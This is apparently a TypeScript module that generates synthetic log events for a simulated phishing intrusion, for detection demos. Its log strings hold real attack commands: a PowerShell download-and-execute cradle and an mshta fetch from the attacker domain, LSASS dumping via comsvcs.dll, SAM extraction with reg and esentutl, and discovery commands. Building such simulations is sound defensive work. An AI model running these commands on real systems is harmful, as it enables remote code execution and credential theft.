import { type AttackScenario, encodedCommand, scenarioClock } from './attack-scenario.ts';
import { COMPANY, type Machine } from './demo-company.ts';
import {
  type DemoLine,
  type DemoWorld,
  processStart,
  securityEvent,
  sysmonEvent,
  windowsEvent,
} from './demo-line.ts';
import { dnsLine, firewallLine, proxyLine } from './network-noise.ts';
import { castOf, type PhishingCast } from './phishing-cast.ts';
import { persistence, psexecMove, wmiMove } from './phishing-spread.ts';

// Phishing to credentials to the file server: a macro starts mshta, which starts an encoded PowerShell; the
// intruder looks around, dumps LSASS and the SAM, moves on with PsExec and WMI, stays by a scheduled task, and
// clears the log.

const SYSTEM32 = 'C:\\Windows\\System32\\';
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const OUTLOOK = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';

export const phishingScenario: AttackScenario = {
  name: 'Phishing to the file server',
  lastsMs: 45 * 60_000,
  tell: (world, startMs) => {
    const cast = castOf(world);
    const later = scenarioClock(world, startMs);
    return [
      ...delivery(world, cast, later),
      ...execution(world, cast, later),
      ...discovery(world, cast, later),
      ...credentials(world, cast, later),
      ...psexecMove(world, cast, later),
      ...wmiMove(world, cast, later),
      ...persistence(world, cast, later),
    ];
  },
};

type Later = (seconds: number) => number;

function delivery({ company, random }: DemoWorld, cast: PhishingCast, later: Later): DemoLine[] {
  const { victim, host, lure, domain, attackerIp } = cast;
  const mailMs = later(1);
  const mail = {
    '@timestamp': new Date(mailMs).toISOString(),
    event: { category: ['email'], action: 'delivered', outcome: 'success' },
    email: {
      from: { address: `billing@${domain}` },
      to: { address: victim.email },
      subject: `Overdue: ${lure.replace(/_/g, ' ').replace('.docm', '')}`,
      attachments: [{ file: { name: lure, size: random.whole(60_000, 190_000) } }],
    },
    source: { ip: attackerIp },
    host: { name: 'mail-gateway' },
  };
  const file = `C:\\Users\\${victim.account}\\Downloads\\${lure}`;
  const world = { company, random };
  return [
    { source: 'mail-gateway', timeMs: mailMs, text: JSON.stringify(mail) },
    sysmonEvent(later(240), host, 11, {
      ProcessGuid: `{${random.uuid()}}`,
      ProcessId: 4212,
      Image: OUTLOOK,
      TargetFilename: file,
      User: cast.user,
    }),
    processStart(world, later(5), host, {
      image: WORD,
      commandLine: `"${WORD}" /n "${file}" /o ""`,
      parentImage: OUTLOOK,
      user: cast.user,
    }),
  ];
}

function beacon(world: DemoWorld, cast: PhishingCast, later: Later): DemoLine[] {
  const { random } = world;
  const { host, user, attackerIp } = cast;
  return [
    sysmonEvent(later(30), host, 3, {
      ProcessGuid: `{${random.uuid()}}`,
      ProcessId: 7044,
      Image: POWERSHELL,
      User: user,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: host.ip,
      SourcePort: random.whole(49_152, 65_000),
      DestinationIp: attackerIp,
      DestinationPort: 443,
    }),
    firewallLine(world, later(1), {
      from: host.ip,
      to: attackerIp,
      port: 443,
      proto: 6,
      service: 'HTTPS',
      action: 'accept',
      policy: 'workstations-to-services',
      sent: random.whole(400, 1800),
      received: random.whole(900, 9000),
      durationMs: 900,
    }),
  ];
}

function execution(world: DemoWorld, cast: PhishingCast, later: Later): DemoLine[] {
  const { random } = world;
  const { host, user, domain, attackerIp, victim } = cast;
  const script = `IEX (New-Object Net.WebClient).DownloadString('http://${domain}/s/${random.hex(6)}.ps1')`;
  const encoded = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encodedCommand(script)}`;
  const mshta = `mshta.exe http://${domain}/t/${random.hex(5)}.hta`;
  return [
    processStart(world, later(25), host, {
      image: `${SYSTEM32}mshta.exe`,
      originalFileName: 'MSHTA.EXE',
      commandLine: mshta,
      parentImage: WORD,
      user,
    }),
    dnsLine(world, later(1), host.ip, domain, 'A'),
    proxyLine(later(1), 310, {
      client: host.ip,
      user: victim.account,
      method: 'GET',
      url: mshta.slice(mshta.indexOf('http')),
      status: 200,
      result: 'TCP_MISS',
      bytes: 8821,
      server: attackerIp,
      contentType: 'application/hta',
    }),
    processStart(world, later(3), host, {
      image: POWERSHELL,
      originalFileName: 'PowerShell.EXE',
      commandLine: encoded,
      parentImage: `${SYSTEM32}mshta.exe`,
      parentCommandLine: mshta,
      user,
    }),
    windowsEvent(
      later(1),
      host,
      {
        id: 4104,
        channel: 'Microsoft-Windows-PowerShell/Operational',
        provider: 'Microsoft-Windows-PowerShell',
      },
      {
        ScriptBlockText: script,
        ScriptBlockId: random.uuid(),
        MessageNumber: 1,
        MessageTotal: 1,
        User: user,
      },
    ),
    sysmonEvent(later(1), host, 22, {
      ProcessGuid: `{${random.uuid()}}`,
      ProcessId: 7044,
      Image: POWERSHELL,
      User: user,
      QueryName: domain,
      QueryStatus: '0',
      QueryResults: `::ffff:${attackerIp};`,
    }),
    ...Array.from({ length: 6 }, () => beacon(world, cast, later)).flat(),
    kerberoast(world, cast, later),
  ];
}

/** A ticket in a weak cipher, to be broken offline. */
function kerberoast({ company, random }: DemoWorld, { victim, host }: PhishingCast, later: Later): DemoLine {
  return securityEvent(later(2), company.domainControllers[0] as Machine, 4769, {
    TargetUserName: `${victim.account}@${COMPANY.dnsSuffix.toUpperCase()}`,
    ServiceName: 'svc-sql',
    TicketEncryptionType: '0x17',
    TicketOptions: '0x40810000',
    IpAddress: `::ffff:${host.ip}`,
    IpPort: random.whole(49_152, 65_000),
    Status: '0x0',
  });
}

function discovery(world: DemoWorld, cast: PhishingCast, later: Later): DemoLine[] {
  const shell = (image: string, commandLine: string): DemoLine =>
    processStart(world, later(12), cast.host, {
      image: `${SYSTEM32}${image}`,
      commandLine,
      parentImage: POWERSHELL,
      user: cast.user,
    });
  return [
    shell('whoami.exe', 'whoami.exe /all'),
    shell('net.exe', 'net.exe group "Domain Admins" /domain'),
    shell('nltest.exe', 'nltest.exe /dclist:haldenvane'),
    shell('net.exe', 'net.exe view /all /domain'),
    shell('systeminfo.exe', 'systeminfo.exe'),
    shell('tasklist.exe', 'tasklist.exe /svc'),
  ];
}

function credentials(world: DemoWorld, cast: PhishingCast, later: Later): DemoLine[] {
  const { random } = world;
  const { host, user } = cast;
  const dump = `C:\\Windows\\Temp\\${random.hex(6)}.dmp`;
  const rundll = `${SYSTEM32}rundll32.exe`;
  const elevated = { parentImage: POWERSHELL, user, integrity: 'High' } as const;
  return [
    processStart(world, later(60), host, {
      ...elevated,
      image: rundll,
      originalFileName: 'RUNDLL32.EXE',
      commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 ${dump} full`,
    }),
    sysmonEvent(later(1), host, 10, {
      SourceProcessGUID: `{${random.uuid()}}`,
      SourceProcessId: 8120,
      SourceImage: rundll,
      SourceUser: user,
      TargetProcessGUID: `{${random.uuid()}}`,
      TargetProcessId: 652,
      TargetImage: `${SYSTEM32}lsass.exe`,
      TargetUser: 'NT AUTHORITY\\SYSTEM',
      GrantedAccess: '0x1FFFFF',
      CallTrace: `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+25d96|UNKNOWN(${random.hex(16)})`,
    }),
    sysmonEvent(later(1), host, 11, {
      ProcessGuid: `{${random.uuid()}}`,
      ProcessId: 8120,
      Image: rundll,
      TargetFilename: dump,
      User: user,
    }),
    processStart(world, later(40), host, {
      ...elevated,
      image: `${SYSTEM32}reg.exe`,
      commandLine: 'reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv /y',
    }),
    processStart(world, later(10), host, {
      ...elevated,
      image: `${SYSTEM32}esentutl.exe`,
      commandLine: 'esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\Windows\\Temp\\sam.bak',
    }),
  ];
}
